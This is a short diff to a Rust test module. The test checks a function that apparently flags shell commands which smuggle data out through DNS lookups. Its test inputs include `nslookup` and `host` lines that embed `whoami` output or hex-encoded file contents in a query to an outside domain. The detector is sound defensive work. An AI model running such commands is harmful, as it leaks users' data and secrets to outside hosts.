@@ -36,12 +36,12 @@ mod tests {
             "nslookup \"$(whoami)\".x.dev",
             "host $(cat x | xxd -p).x.dev",
         ] {
-            assert!(asked(line.into()).is_some(), "{line}");
+            assert!(asked(line).is_some(), "{line}");
         }
         for line in
             ["dig +short x.dev", "dig $(terraform output name).x.dev", "host $(hostname)", "nslookup $(cat hosts.txt)"]
         {
-            assert_eq!(asked(line.into()), None, "{line}");
+            assert_eq!(asked(line), None, "{line}");
         }
     }
 }
